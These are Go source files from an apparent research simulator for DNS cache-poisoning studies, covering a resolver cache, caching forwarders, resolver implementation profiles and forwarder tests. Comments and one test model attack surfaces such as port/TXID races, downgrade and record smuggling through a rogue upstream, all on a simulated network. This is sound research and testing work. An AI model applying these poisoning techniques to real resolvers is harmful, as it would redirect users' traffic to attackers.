// NewCache returns a cache reading virtual time from now().
func NewCache(now func() time.Duration) *Cache {
	return &Cache{entries: make(map[cacheKey]*cacheEntry), now: now}
}

// Get returns the cached RRset for (name, type); negative entries
// return ok=true with nil rrs and negative=true.
func (c *Cache) Get(name string, typ dnswire.Type) (rrs []*dnswire.RR, negative, ok bool) {
	k := cacheKey{dnswire.CanonicalName(name), typ}
	e := c.entries[k]
	if e == nil || c.now() > e.expires {
		if e != nil {
			delete(c.entries, k)
		}
		c.Misses++
		return nil, false, false
	}
	c.Hits++
	out := make([]*dnswire.RR, len(e.rrs))
	for i, rr := range e.rrs {
		out[i] = rr.Copy()
	}
	return out, e.negative, true
}

// Put stores an RRset under (name, type) honouring the smallest TTL in
// the set.
func (c *Cache) Put(name string, typ dnswire.Type, rrs []*dnswire.RR) {
	if len(rrs) == 0 {
		return
	}
	ttl := rrs[0].TTL
	for _, rr := range rrs {
		if rr.TTL < ttl {
			ttl = rr.TTL
		}
	}
	cp := make([]*dnswire.RR, len(rrs))
	for i, rr := range rrs {
		cp[i] = rr.Copy()
	}
	c.entries[cacheKey{dnswire.CanonicalName(name), typ}] = &cacheEntry{
		rrs: cp, expires: c.now() + time.Duration(ttl)*time.Second,
	}
	c.Inserts++
}

// PutNegative stores a negative (NXDOMAIN/NODATA) entry.
func (c *Cache) PutNegative(name string, typ dnswire.Type, ttl uint32) {
	c.entries[cacheKey{dnswire.CanonicalName(name), typ}] = &cacheEntry{
		negative: true, expires: c.now() + time.Duration(ttl)*time.Second,
	}
	c.Inserts++
}

// MarkPoisoned flags an entry for experiment bookkeeping; it reports
// whether the entry existed.
func (c *Cache) MarkPoisoned(name string, typ dnswire.Type) bool {
	e := c.entries[cacheKey{dnswire.CanonicalName(name), typ}]
	if e == nil {
		return false
	}
	e.poisoned = true
	return true
}

// IsPoisoned reports the bookkeeping flag.
func (c *Cache) IsPoisoned(name string, typ dnswire.Type) bool {
	e := c.entries[cacheKey{dnswire.CanonicalName(name), typ}]
	return e != nil && e.poisoned
}

// Flush drops everything.
func (c *Cache) Flush() { c.entries = make(map[cacheKey]*cacheEntry) }

// Reset drops everything and zeroes the activity counters in place,
// keeping the allocated map — the trial-reset path, where the warmed
// cache is reused by the next simulation run.
func (c *Cache) Reset() {
	clear(c.entries)
	c.Hits, c.Misses, c.Inserts = 0, 0, 0
}

// Len returns the number of live entries (expired ones included until
// next access).
func (c *Cache) Len() int { return len(c.entries) }

// Contains reports whether a positive entry for (name, type) is live —
// the probe the paper's cross-application cache study (§4.3.2) uses
// against open resolvers ("cache snooping").
func (c *Cache) Contains(name string, typ dnswire.Type) bool {
	k := cacheKey{dnswire.CanonicalName(name), typ}
	e := c.entries[k]
	return e != nil && !e.negative && c.now() <= e.expires
}
