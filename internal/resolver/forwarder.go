package resolver

import (
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// Forwarder is an open DNS forwarder: it relays queries to an upstream
// recursive resolver from its own address. Forwarders "make up the
// majority of open resolvers in the internet" (§4.3.3) and are the
// lever that lets an attacker trigger queries at otherwise closed
// recursive resolvers.
type Forwarder struct {
	Host     *netsim.Host
	Upstream netip.Addr
	Timeout  time.Duration

	Forwarded uint64
	Returned  uint64
}

// NewForwarder creates a forwarder on host relaying to upstream,
// listening on UDP 53.
func NewForwarder(host *netsim.Host, upstream netip.Addr) *Forwarder {
	f := &Forwarder{Host: host, Upstream: upstream, Timeout: 5 * time.Second}
	host.BindUDP(53, f.handle)
	return f
}

func (f *Forwarder) handle(dg netsim.Datagram) {
	query, err := dnswire.Unpack(dg.Payload)
	if err != nil || query.Response {
		return
	}
	f.Forwarded++
	client := dg
	upTXID := uint16(f.Host.Rand().Uint32())
	fwd := *query
	fwd.ID = upTXID
	wire, err := fwd.Pack()
	if err != nil {
		return
	}
	done := false
	var port uint16
	port = f.Host.BindUDP(0, func(resp netsim.Datagram) {
		if done || resp.Src != f.Upstream || resp.SrcPort != 53 {
			return
		}
		msg, err := dnswire.Unpack(resp.Payload)
		if err != nil || msg.ID != upTXID {
			return
		}
		done = true
		f.Host.CloseUDP(port)
		msg.ID = query.ID
		back, err := msg.Pack()
		if err != nil {
			return
		}
		f.Returned++
		f.Host.SendUDP(53, client.Src, client.SrcPort, back)
	})
	f.Host.SendUDP(port, f.Upstream, 53, wire)
	f.Host.Network().Clock.After(f.Timeout, func() {
		if !done {
			done = true
			f.Host.CloseUDP(port)
		}
	})
}

// StubQuery sends a one-shot DNS query from host to a server and
// invokes cb with the response or an error. It is the minimal stub
// resolver every application in internal/apps uses.
func StubQuery(host *netsim.Host, server netip.Addr, name string, typ dnswire.Type, timeout time.Duration, cb func(*dnswire.Message, error)) {
	txid := uint16(host.Rand().Uint32())
	q := dnswire.NewQuery(txid, name, typ)
	wire, err := q.Pack()
	if err != nil {
		cb(nil, err)
		return
	}
	done := false
	var port uint16
	port = host.BindUDP(0, func(dg netsim.Datagram) {
		if done || dg.Src != server || dg.SrcPort != 53 {
			return
		}
		msg, err := dnswire.Unpack(dg.Payload)
		if err != nil || msg.ID != txid {
			return
		}
		done = true
		host.CloseUDP(port)
		cb(msg, nil)
	})
	host.SendUDP(port, server, 53, wire)
	host.Network().Clock.After(timeout, func() {
		if !done {
			done = true
			host.CloseUDP(port)
			cb(nil, ErrTimeout)
		}
	})
}

// StubLookup is StubQuery specialised to return just the answer
// RRset, mapping RCodes to the resolver errors.
func StubLookup(host *netsim.Host, server netip.Addr, name string, typ dnswire.Type, timeout time.Duration, cb Callback) {
	StubQuery(host, server, name, typ, timeout, func(msg *dnswire.Message, err error) {
		if err != nil {
			cb(nil, err)
			return
		}
		switch msg.RCode {
		case dnswire.RCodeNoError:
			if len(msg.Answers) == 0 {
				cb(nil, ErrNoData)
				return
			}
			cb(msg.Answers, nil)
		case dnswire.RCodeNXDomain:
			cb(nil, ErrNXDomain)
		case dnswire.RCodeNotImp:
			cb(nil, ErrNotImp)
		case dnswire.RCodeRefused:
			cb(nil, ErrRefused)
		default:
			cb(nil, ErrServFail)
		}
	})
}
