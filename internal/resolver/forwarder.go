package resolver

import (
	"encoding/binary"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// Forwarder is an open DNS forwarder: it relays queries to an upstream
// recursive resolver (or another forwarder) from its own address.
// Forwarders "make up the majority of open resolvers in the internet"
// (§4.3.3) and are the lever that lets an attacker trigger queries at
// otherwise closed recursive resolvers.
//
// Each hop has its own socket, port and TXID behaviour: every relayed
// query opens a fresh ephemeral port (per the host's port-range
// configuration — embedded forwarder devices expose far smaller ranges
// than server resolvers) and draws a fresh upstream TXID independent
// of the downstream one. A caching forwarder additionally keeps a
// per-hop answer cache, so a record poisoned at any hop of a chain
// keeps being served long after the upstream recovered — the §4.3
// amplification this package's chain scenarios measure.
type Forwarder struct {
	Host     *netsim.Host
	Upstream netip.Addr
	Timeout  time.Duration

	// Transport is the upstream transport relayed queries ride (zero
	// value: plaintext UDP). Stream transports exchange through a
	// reusable netsim.Session instead of an ephemeral UDP socket, so
	// the hop exposes no spoofable port/TXID surface upstream.
	Transport Transport
	// Opportunistic hops fall back to plaintext UDP when the encrypted
	// upstream session fails (the downgrade attack's target); strict
	// hops drop the query instead.
	Opportunistic bool
	// downgraded is sticky once an opportunistic fallback happened.
	downgraded bool

	// Cache, when non-nil, is the per-hop answer cache. Plain relays
	// (NewForwarder) leave it nil; chain hops (NewCachingForwarder)
	// answer repeat queries locally from it.
	Cache *Cache
	// TTLCap, in seconds, clamps the TTL of every record entering the
	// cache (dnsmasq-style forwarders cap TTLs so stale upstream data
	// ages out on the device's schedule); 0 honours upstream TTLs.
	TTLCap uint32
	// CheckBailiwick drops answer records whose owner name is not the
	// query name before caching or relaying — the crude name-match
	// filter some forwarders apply. Hops without it cache every record
	// a (possibly spoofed) response smuggles in.
	CheckBailiwick bool

	// TestHookQuerySent observes outgoing upstream queries (port and
	// TXID included) for white-box tests; attack code must not use it.
	TestHookQuerySent func(txid, port uint16)

	Forwarded  uint64
	Returned   uint64
	CacheHits  uint64
	Downgrades uint64

	// scratch is the wire-format buffer reused for every message this
	// forwarder packs. Safe because SendUDP copies the payload into a
	// pooled buffer before returning, and nothing retains the packed
	// bytes past the send.
	scratch []byte
}

// NewForwarder creates a plain (non-caching) forwarder on host relaying
// to upstream, listening on UDP 53.
func NewForwarder(host *netsim.Host, upstream netip.Addr) *Forwarder {
	f := &Forwarder{Host: host, Upstream: upstream, Timeout: 5 * time.Second}
	host.BindUDP(53, f.handle)
	// Serve downstream session transports too, so a chain may mix
	// encrypted and plaintext hops freely.
	serve := func(src netip.Addr, req []byte, respond func([]byte)) {
		f.serveQuery(src, req, respond)
	}
	for _, t := range StreamTransports() {
		host.BindSession(t.Port(), serve)
	}
	return f
}

// Reset rewinds the forwarder to its post-construction state for the
// next trial of a reused world: the per-hop cache (if any) is emptied
// in place, the sticky opportunistic downgrade lifted, counters zeroed
// and the test hook dropped. Upstream configuration and bound ports
// survive.
func (f *Forwarder) Reset() {
	if f.Cache != nil {
		f.Cache.Reset()
	}
	f.downgraded = false
	f.Forwarded, f.Returned, f.CacheHits, f.Downgrades = 0, 0, 0, 0
	f.TestHookQuerySent = nil
}

// EffectiveTransport is the transport upstream relays currently use,
// accounting for a sticky opportunistic downgrade.
func (f *Forwarder) EffectiveTransport() Transport {
	if f.downgraded {
		return TransportUDP
	}
	return f.Transport
}

// Downgraded reports whether an opportunistic downgrade has happened.
func (f *Forwarder) Downgraded() bool { return f.downgraded }

// ForceDowngrade strips an opportunistic encrypted hop back to
// plaintext UDP, reporting whether anything changed.
func (f *Forwarder) ForceDowngrade() bool {
	if !f.Opportunistic || !f.Transport.Stream() || f.downgraded {
		return false
	}
	f.downgraded = true
	f.Downgrades++
	return true
}

// NewCachingForwarder creates a forwarder with a per-hop answer cache,
// the node type the forwarder-chain scenarios are built from. ttlCap
// (seconds, 0 = none) clamps cached TTLs; checkBailiwick enables the
// name-match response filter.
func NewCachingForwarder(host *netsim.Host, upstream netip.Addr, ttlCap uint32, checkBailiwick bool) *Forwarder {
	f := NewForwarder(host, upstream)
	f.Cache = NewCache(host.Network().Clock.Now)
	f.TTLCap = ttlCap
	f.CheckBailiwick = checkBailiwick
	return f
}

func (f *Forwarder) handle(dg netsim.Datagram) {
	src, srcPort := dg.Src, dg.SrcPort
	f.serveQuery(src, dg.Payload, func(wire []byte) {
		f.Host.SendUDP(53, src, srcPort, wire)
	})
}

// serveQuery relays one client query, emitting the packed response
// through send — the shared service path behind the UDP socket and
// every downstream session endpoint. The bytes passed to send alias
// f.scratch and are only valid for the duration of the call.
func (f *Forwarder) serveQuery(src netip.Addr, payload []byte, send func(wire []byte)) {
	query, err := dnswire.Unpack(payload)
	if err != nil || query.Response || len(query.Questions) == 0 {
		return
	}
	q := query.Question()
	if f.Cache != nil {
		if rrs, neg, ok := f.Cache.Get(q.Name, q.Type); ok && !neg {
			f.CacheHits++
			f.respondLocal(query, rrs, send)
			return
		}
	}
	f.Forwarded++
	upTXID := uint16(f.Host.Rand().Uint32())
	fwd := *query
	fwd.ID = upTXID
	wire, err := fwd.AppendPack(f.scratch[:0])
	if err != nil {
		return
	}
	f.scratch = wire
	f.exchange(upTXID, wire, func(msg *dnswire.Message) {
		if f.CheckBailiwick {
			msg.Answers = answersMatching(msg.Answers, q.Name)
		}
		f.cacheAnswers(msg)
		msg.ID = query.ID
		back, err := msg.AppendPack(f.scratch[:0])
		if err != nil {
			return
		}
		f.scratch = back
		f.Returned++
		send(back)
	})
}

// exchange performs one upstream round trip over the hop's effective
// transport, invoking onResp with the validated response (or never,
// on timeout/failure). wire is only read synchronously.
func (f *Forwarder) exchange(upTXID uint16, wire []byte, onResp func(*dnswire.Message)) {
	t := f.EffectiveTransport()
	if !t.Stream() {
		f.exchangeUDP(upTXID, wire, onResp)
		return
	}
	// The downgrade retry needs the query bytes after the session
	// callback, by which time f.scratch (which wire aliases) may have
	// been reused; copy up front only when a downgrade is possible.
	var retry []byte
	if f.Opportunistic && !f.downgraded {
		retry = append([]byte(nil), wire...)
	}
	done := false
	f.Host.Network().Clock.After(f.Timeout, func() { done = true })
	if f.TestHookQuerySent != nil {
		f.TestHookQuerySent(upTXID, 0)
	}
	sess := f.Host.Session(f.Upstream, t.Port(), t.SessionConfig())
	sess.Call(wire, func(resp []byte) {
		if done {
			return
		}
		done = true
		if resp == nil {
			// Connection failure: opportunistic hops resend over
			// plaintext UDP, strict hops drop (the client's own
			// retransmission policy governs from here).
			if retry != nil && f.ForceDowngrade() {
				f.exchangeUDP(upTXID, retry, onResp)
			}
			return
		}
		msg, err := dnswire.Unpack(resp)
		if err != nil || msg.ID != upTXID {
			return
		}
		onResp(msg)
	})
}

// exchangeUDP is the classic datagram round trip: fresh ephemeral
// port, fresh TXID (chosen by the caller), spoofable by an off-path
// attacker who wins the port/TXID race.
func (f *Forwarder) exchangeUDP(upTXID uint16, wire []byte, onResp func(*dnswire.Message)) {
	done := false
	var port uint16
	port = f.Host.BindUDP(0, func(resp netsim.Datagram) {
		if done || resp.Src != f.Upstream || resp.SrcPort != 53 {
			return
		}
		// TXID precheck on the raw header: wrong-ID and unparseable
		// datagrams are both dropped silently below, so skipping the
		// parse for a mismatched ID is behaviour-identical and keeps
		// spoof floods off the Unpack path.
		if len(resp.Payload) < 2 || binary.BigEndian.Uint16(resp.Payload) != upTXID {
			return
		}
		msg, err := dnswire.Unpack(resp.Payload)
		if err != nil || msg.ID != upTXID {
			return
		}
		done = true
		f.Host.CloseUDP(port)
		onResp(msg)
	})
	if f.TestHookQuerySent != nil {
		f.TestHookQuerySent(upTXID, port)
	}
	f.Host.SendUDP(port, f.Upstream, 53, wire)
	f.Host.Network().Clock.After(f.Timeout, func() {
		if !done {
			done = true
			f.Host.CloseUDP(port)
		}
	})
}

// respondLocal answers a client from the per-hop cache.
func (f *Forwarder) respondLocal(query *dnswire.Message, rrs []*dnswire.RR, send func([]byte)) {
	resp := &dnswire.Message{
		ID: query.ID, Response: true, RecursionAvailable: true,
		RecursionDesired: query.RecursionDesired,
		Questions:        query.Questions,
		Answers:          rrs,
	}
	wire, err := resp.AppendPack(f.scratch[:0])
	if err != nil {
		return
	}
	f.scratch = wire
	f.Returned++
	send(wire)
}

// cacheAnswers stores the (already bailiwick-filtered, when enabled)
// answer RRsets of a successful upstream response, grouped per
// (name, type) and with TTLs clamped at TTLCap. A bailiwick-less hop
// therefore caches whatever names a response carries — the injection
// surface the chain scenarios' weakest-hop analysis exploits.
func (f *Forwarder) cacheAnswers(msg *dnswire.Message) {
	if f.Cache == nil || msg.RCode != dnswire.RCodeNoError || len(msg.Answers) == 0 {
		return
	}
	type key struct {
		name string
		typ  dnswire.Type
	}
	groups := map[key][]*dnswire.RR{}
	var order []key
	for _, rr := range msg.Answers {
		cp := rr.Copy()
		if f.TTLCap > 0 && cp.TTL > f.TTLCap {
			cp.TTL = f.TTLCap
		}
		k := key{dnswire.CanonicalName(cp.Name), cp.Type}
		if groups[k] == nil {
			order = append(order, k)
		}
		groups[k] = append(groups[k], cp)
	}
	for _, k := range order {
		f.Cache.Put(k.name, k.typ, groups[k])
	}
}

// answersMatching keeps only records owned by the query name.
func answersMatching(rrs []*dnswire.RR, qname string) []*dnswire.RR {
	out := rrs[:0:0]
	for _, rr := range rrs {
		if dnswire.EqualNames(rr.Name, qname) {
			out = append(out, rr)
		}
	}
	return out
}

// StubQuery sends a one-shot DNS query from host to a server and
// invokes cb with the response or an error. It is the minimal stub
// resolver every application in internal/apps uses.
func StubQuery(host *netsim.Host, server netip.Addr, name string, typ dnswire.Type, timeout time.Duration, cb func(*dnswire.Message, error)) {
	txid := uint16(host.Rand().Uint32())
	q := dnswire.NewQuery(txid, name, typ)
	wire, err := q.Pack()
	if err != nil {
		cb(nil, err)
		return
	}
	done := false
	var port uint16
	port = host.BindUDP(0, func(dg netsim.Datagram) {
		if done || dg.Src != server || dg.SrcPort != 53 {
			return
		}
		if len(dg.Payload) < 2 || binary.BigEndian.Uint16(dg.Payload) != txid {
			return
		}
		msg, err := dnswire.Unpack(dg.Payload)
		if err != nil || msg.ID != txid {
			return
		}
		done = true
		host.CloseUDP(port)
		cb(msg, nil)
	})
	host.SendUDP(port, server, 53, wire)
	host.Network().Clock.After(timeout, func() {
		if !done {
			done = true
			host.CloseUDP(port)
			cb(nil, ErrTimeout)
		}
	})
}

// StubLookup is StubQuery specialised to return just the answer
// RRset, mapping RCodes to the resolver errors.
func StubLookup(host *netsim.Host, server netip.Addr, name string, typ dnswire.Type, timeout time.Duration, cb Callback) {
	StubQuery(host, server, name, typ, timeout, func(msg *dnswire.Message, err error) {
		if err != nil {
			cb(nil, err)
			return
		}
		switch msg.RCode {
		case dnswire.RCodeNoError:
			if len(msg.Answers) == 0 {
				cb(nil, ErrNoData)
				return
			}
			cb(msg.Answers, nil)
		case dnswire.RCodeNXDomain:
			cb(nil, ErrNXDomain)
		case dnswire.RCodeNotImp:
			cb(nil, ErrNotImp)
		case dnswire.RCodeRefused:
			cb(nil, ErrRefused)
		default:
			cb(nil, ErrServFail)
		}
	})
}
