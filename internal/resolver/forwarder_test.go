package resolver_test

import (
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

// chainLookup issues one client query through the scenario's entry
// forwarder and returns the response message.
func chainLookup(t *testing.T, s *scenario.S, name string) *dnswire.Message {
	t.Helper()
	var got *dnswire.Message
	resolver.StubQuery(s.ClientHost, s.DNSAddr(), name, dnswire.TypeA, 20*time.Second,
		func(msg *dnswire.Message, err error) {
			if err != nil {
				t.Fatalf("chain lookup %s: %v", name, err)
			}
			got = msg
		})
	s.Run()
	if got == nil {
		t.Fatalf("chain lookup %s: no response", name)
	}
	return got
}

// TestForwarderCacheTTLExpiry: a hop's TTLCap clamps how long the
// per-hop cache serves a record; after expiry the hop relays upstream
// again.
func TestForwarderCacheTTLExpiry(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 51,
		ForwarderChain: []scenario.ForwarderSpec{{TTLCap: 30}}})
	fwd := s.Forwarders[0]

	chainLookup(t, s, "www.vict.im.")
	if fwd.Forwarded != 1 {
		t.Fatalf("first lookup forwarded %d times, want 1", fwd.Forwarded)
	}
	if !fwd.Cache.Contains("www.vict.im.", dnswire.TypeA) {
		t.Fatal("hop did not cache the answer")
	}

	// Within the cap the hop answers locally.
	s.Clock.RunFor(10 * time.Second)
	chainLookup(t, s, "www.vict.im.")
	if fwd.Forwarded != 1 || fwd.CacheHits != 1 {
		t.Fatalf("cached lookup: forwarded=%d hits=%d, want 1/1", fwd.Forwarded, fwd.CacheHits)
	}

	// The zone TTL is 300s, but the hop capped it at 30s: past the cap
	// the entry expires and the hop re-fetches upstream.
	s.Clock.RunFor(25 * time.Second) // 35s since caching
	if fwd.Cache.Contains("www.vict.im.", dnswire.TypeA) {
		t.Fatal("capped TTL did not expire")
	}
	chainLookup(t, s, "www.vict.im.")
	if fwd.Forwarded != 2 {
		t.Fatalf("post-expiry lookup forwarded %d times, want 2", fwd.Forwarded)
	}
}

// TestForwarderTXIDIndependenceAcrossHops: every hop of a chain draws
// its own upstream TXID and source port — no hop reuses the downstream
// query's challenge values, and the client still gets its own TXID
// back.
func TestForwarderTXIDIndependenceAcrossHops(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 52,
		ForwarderChain: []scenario.ForwarderSpec{{}, {}}})

	type sent struct{ txid, port uint16 }
	var hop0, hop1 []sent
	s.Forwarders[0].TestHookQuerySent = func(txid, port uint16) { hop0 = append(hop0, sent{txid, port}) }
	s.Forwarders[1].TestHookQuerySent = func(txid, port uint16) { hop1 = append(hop1, sent{txid, port}) }

	const clientTXID = 0x4242
	q := dnswire.NewQuery(clientTXID, "www.vict.im.", dnswire.TypeA)
	wire, err := q.Pack()
	if err != nil {
		t.Fatal(err)
	}
	var resp *dnswire.Message
	port := s.ClientHost.BindUDP(0, func(dg netsim.Datagram) {
		resp, _ = dnswire.Unpack(dg.Payload)
	})
	s.ClientHost.SendUDP(port, s.DNSAddr(), 53, wire)
	s.Run()

	if len(hop0) != 1 || len(hop1) != 1 {
		t.Fatalf("hops forwarded %d/%d queries, want 1/1", len(hop0), len(hop1))
	}
	if hop0[0].txid == clientTXID || hop1[0].txid == clientTXID || hop0[0].txid == hop1[0].txid {
		t.Fatalf("TXIDs not independent: client=%#x hop0=%#x hop1=%#x",
			clientTXID, hop0[0].txid, hop1[0].txid)
	}
	for i, h := range [][]sent{{hop0[0]}, {hop1[0]}} {
		if h[0].port < 40000 || h[0].port > 40000+scenario.DefaultForwarderPortSpan-1 {
			t.Fatalf("hop %d upstream port %d outside the forwarder ephemeral range", i, h[0].port)
		}
	}
	if resp == nil || resp.ID != clientTXID {
		t.Fatalf("client response %+v, want its own TXID %#x restored", resp, clientTXID)
	}
}

// TestForwarderBailiwickFiltering: a hop with the name-match filter
// neither caches nor relays records a response smuggles in for other
// names; a hop without it caches everything — the injection surface
// the weakest-hop analysis exploits.
func TestForwarderBailiwickFiltering(t *testing.T) {
	for _, check := range []bool{true, false} {
		s := scenario.New(scenario.Config{Seed: 53})
		// A rogue upstream that appends a record for a different name to
		// every answer.
		rogueAddr := netip.MustParseAddr("30.0.0.50")
		rogue := s.Net.AddHost("rogue-upstream", scenario.VictimAS, rogueAddr)
		rogue.BindUDP(53, func(dg netsim.Datagram) {
			q, err := dnswire.Unpack(dg.Payload)
			if err != nil || q.Response {
				return
			}
			resp := &dnswire.Message{ID: q.ID, Response: true, Questions: q.Questions,
				Answers: []*dnswire.RR{
					dnswire.NewA("www.vict.im.", 300, scenario.VictimWWW),
					dnswire.NewA("smuggled.vict.im.", 300, scenario.AttackerIP),
				}}
			wire, err := resp.Pack()
			if err != nil {
				return
			}
			rogue.SendUDP(53, dg.Src, dg.SrcPort, wire)
		})
		fwdHost := s.Net.AddHost("fwd-under-test", scenario.VictimAS, scenario.ForwarderIP(0))
		fwd := resolver.NewCachingForwarder(fwdHost, rogueAddr, 0, check)

		var answers int
		resolver.StubQuery(s.ClientHost, fwdHost.Addr, "www.vict.im.", dnswire.TypeA, 10*time.Second,
			func(msg *dnswire.Message, err error) {
				if err != nil {
					t.Fatalf("check=%v: %v", check, err)
				}
				answers = len(msg.Answers)
			})
		s.Run()

		smuggledCached := fwd.Cache.Contains("smuggled.vict.im.", dnswire.TypeA)
		if check && (smuggledCached || answers != 1) {
			t.Fatalf("bailiwick check on: smuggled cached=%v relayed answers=%d", smuggledCached, answers)
		}
		if !check && (!smuggledCached || answers != 2) {
			t.Fatalf("bailiwick check off: smuggled cached=%v relayed answers=%d", smuggledCached, answers)
		}
		if !fwd.Cache.Contains("www.vict.im.", dnswire.TypeA) {
			t.Fatalf("check=%v: genuine record not cached", check)
		}
	}
}
