// Package resolver implements the recursive DNS resolver under
// attack: TTL cache with bailiwick checking, source-port and TXID
// randomisation, optional 0x20 encoding, EDNS buffer advertisement,
// truncation fallback to TCP, CNAME chasing, negative caching, and
// per-implementation behaviour profiles (BIND, Unbound, PowerDNS
// Recursor, systemd-resolved, dnsmasq) whose observable differences
// reproduce the paper's Table 5.
package resolver

import "time"

// Profile captures the implementation-specific behaviours the paper
// measures.
type Profile struct {
	Name string
	// CachesANY: contents of an ANY response are used to answer
	// subsequent single-type queries without re-querying (Table 5:
	// BIND, PowerDNS, systemd-resolved yes; dnsmasq no).
	CachesANY bool
	// SupportsANY: forwards/answers ANY queries at all (Unbound: no).
	SupportsANY bool
	// Use0x20 randomises query-name case and requires the response to
	// echo it exactly.
	Use0x20 bool
	// EDNSSize is the UDP payload size advertised in queries; 0 sends
	// no EDNS (effective 512).
	EDNSSize uint16
	// ValidateDNSSEC rejects unsigned/invalid answers for zones the
	// resolver knows to be signed.
	ValidateDNSSEC bool
	// Timeout and Retries control the retransmission schedule; every
	// retry draws a fresh source port and TXID.
	Timeout time.Duration
	Retries int
	// Transport is the upstream transport queries ride (zero value:
	// plaintext UDP with TCP fallback). Stream transports expose no
	// spoofable port/TXID surface; see transport.go.
	Transport Transport
	// Opportunistic resolvers fall back to plaintext UDP when the
	// encrypted upstream session cannot be established (opportunistic
	// encryption, the downgrade attack's target); strict resolvers
	// (false) fail the lookup instead.
	Opportunistic bool
}

// Profiles of the five implementations in Table 5. Version strings
// match the ones the paper tested. EDNS sizes use each
// implementation's contemporary default.
var (
	ProfileBIND = Profile{
		Name: "BIND 9.14.0", CachesANY: true, SupportsANY: true,
		EDNSSize: 4096, Timeout: 2 * time.Second, Retries: 2,
	}
	ProfileUnbound = Profile{
		Name: "Unbound 1.9.1", CachesANY: false, SupportsANY: false,
		Use0x20: false, EDNSSize: 4096, Timeout: 2 * time.Second, Retries: 2,
	}
	ProfilePowerDNS = Profile{
		Name: "PowerDNS Recursor 4.3.0", CachesANY: true, SupportsANY: true,
		EDNSSize: 1680, Timeout: 2 * time.Second, Retries: 2,
	}
	ProfileSystemd = Profile{
		Name: "systemd resolved 245", CachesANY: true, SupportsANY: true,
		EDNSSize: 4096, Timeout: 2 * time.Second, Retries: 2,
	}
	ProfileDnsmasq = Profile{
		Name: "dnsmasq-2.79", CachesANY: false, SupportsANY: true,
		EDNSSize: 1280, Timeout: 2 * time.Second, Retries: 2,
	}
)

// AllProfiles lists the Table 5 implementations in paper order.
func AllProfiles() []Profile {
	return []Profile{ProfileBIND, ProfileUnbound, ProfilePowerDNS, ProfileSystemd, ProfileDnsmasq}
}

func (p Profile) withDefaults() Profile {
	if p.Timeout == 0 {
		p.Timeout = 2 * time.Second
	}
	if p.Name == "" {
		p.Name = "generic"
	}
	return p
}
