package resolver

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"sort"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// Lookup errors.
var (
	ErrTimeout  = errors.New("resolver: query timed out")
	ErrNXDomain = errors.New("resolver: no such domain")
	ErrNoData   = errors.New("resolver: no records of requested type")
	ErrServFail = errors.New("resolver: server failure")
	ErrRefused  = errors.New("resolver: refused")
	ErrBogus    = errors.New("resolver: DNSSEC validation failed")
)

// Callback receives the outcome of a lookup.
type Callback func(rrs []*dnswire.RR, err error)

// Resolver is a recursive resolver bound to a netsim host. It serves
// clients on UDP port 53 and resolves against configured authoritative
// servers, applying the challenge-response defences of RFC 5452.
type Resolver struct {
	Host  *netsim.Host
	Prof  Profile
	Cache *Cache
	// Open answers queries from any source ("open resolver"); closed
	// resolvers only answer hosts in their own AS.
	Open bool

	zones       map[string][]netip.Addr
	knownSigned map[string]bool
	inflight    map[cacheKey]*inflight
	nextSock    int
	// downgraded is set once an opportunistic resolver falls back to
	// plaintext UDP after its encrypted upstream session failed; it is
	// sticky for the resolver's lifetime (one scenario = one trial).
	downgraded bool
	// scratch is the wire-format buffer reused for client responses
	// (upstream queries keep their own buffers: inf.wire is retained
	// for TCP fallback and must not share this scratch).
	scratch []byte
	// uq and friends are the reusable upstream-query scaffolding:
	// sendAttempt rewrites them in place instead of allocating a
	// Message, a Questions slice and an OPT record per round trip. The
	// message is only alive inside sendAttempt's AppendPack call, so
	// one set per resolver suffices.
	uq     dnswire.Message
	uqQ    [1]dnswire.Question
	uqOpt  dnswire.RR
	uqOptD dnswire.OPTData
	uqAdd  [1]*dnswire.RR

	// Counters observable by the measurements.
	ClientQueries    uint64
	UpstreamQueries  uint64
	Accepted         uint64
	SpoofRejected    uint64 // right socket, wrong TXID/question
	ValidationFailed uint64
	Timeouts         uint64
	TCPFallbacks     uint64
	Downgrades       uint64

	// TestHookQuerySent observes outgoing upstream queries (port and
	// TXID included) for white-box tests; attack code must not use it.
	TestHookQuerySent func(name string, typ dnswire.Type, ns netip.Addr, port, txid uint16)
}

type inflight struct {
	r     *Resolver
	key   cacheKey
	qname string // possibly 0x20-encoded, as sent
	zone  string // bailiwick for this query
	// servers is the zone's authoritative set, resolved once at query
	// start so retries don't re-walk the zone table.
	servers []netip.Addr
	ns      netip.Addr
	port    uint16
	txid    uint16
	// wire is the packed query, leased from the network's wire pool
	// for the lifetime of the resolution (retries re-pack into it, TCP
	// fallback retransmits it) and returned by release().
	wire    []byte
	attempt int
	// timerAttempt is the attempt the pending retransmission timer was
	// armed for; a timer firing after the attempt moved on (the
	// truncated→TCP path bumps attempt to invalidate it) is stale. At
	// most one timer is outstanding per inflight, so the inflight
	// itself is the sim.Action — no per-round-trip closure. A resend
	// that happens while a timer is already pending (the opportunistic
	// session→UDP downgrade) only pushes deadline forward; the pending
	// timer re-arms itself for the remainder when it fires early.
	timerAttempt int
	timerPending bool
	deadline     time.Duration
	done         bool
	depth        int
	cbs          []Callback
	// recv is the upstream datagram handler, created once per
	// resolution and rebound for each attempt.
	recv netsim.UDPHandler
}

// Fire implements sim.Action: the retransmission timeout.
func (inf *inflight) Fire() {
	inf.timerPending = false
	inf.r.onTimeout(inf, inf.timerAttempt)
}

// release returns the leased wire buffer to the network's pool. Safe
// to call on every completion path: TCP fallback copies the request
// synchronously, so nothing retains the bytes after the resolution
// completes.
func (inf *inflight) release() {
	if inf.wire != nil {
		inf.r.Host.Network().WirePool().Put(inf.wire)
		inf.wire = nil
	}
}

// New creates a resolver on host with the given profile and binds UDP
// port 53 for client queries.
func New(host *netsim.Host, prof Profile) *Resolver {
	r := &Resolver{
		Host:        host,
		Prof:        prof.withDefaults(),
		Cache:       NewCache(host.Network().Clock.Now),
		zones:       make(map[string][]netip.Addr),
		knownSigned: make(map[string]bool),
		inflight:    make(map[cacheKey]*inflight),
	}
	host.BindUDP(53, r.handleClient)
	// Serve the same answers over every session transport so a
